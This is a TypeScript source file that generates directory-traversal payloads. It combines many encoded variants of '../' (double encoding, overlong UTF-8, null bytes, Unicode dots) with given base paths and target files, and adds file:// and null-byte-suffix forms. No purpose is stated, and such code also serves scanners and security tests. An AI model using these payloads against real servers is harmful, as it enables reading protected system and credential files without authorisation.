/** What has passed for `../` with one server or another. */
const STEPS_UP = [
  ...["../", "..\\", "%2e%2e/", "%2E%2E%2F", "..%2f", "..%5c", "%2e%2e%5c", ".%2e/", "%252e%252e%252f", "..%252f"],
  ...["..%c0%af", "..%c1%9c", "%c0%ae%c0%ae/", "..%00/", "....//", "..../", "..;/", "%u002e%u002e/", "..%e3%80%82/"],
  ...["./../", "%ef%bc%8e%ef%bc%8e/", "..%0d%0a/"],
];

/** Addresses that mean to leave each of these places for each of those files. Files are paths from the root. */
export function* pathTricks(places: readonly string[], files: readonly string[]): Generator<string> {
  for (const place of places) {
    for (const file of files) {
      const name = file.replace(/^\//, "");
      for (const step of STEPS_UP) for (const depth of [1, 3, 9]) yield place + step.repeat(depth) + name;
      yield* [file, `/${file}`, `file://${file}`, `${name}%00.png`, file.replaceAll("/", "%2f")].map(
        (it) => place + it,
      );
    }
  }
}
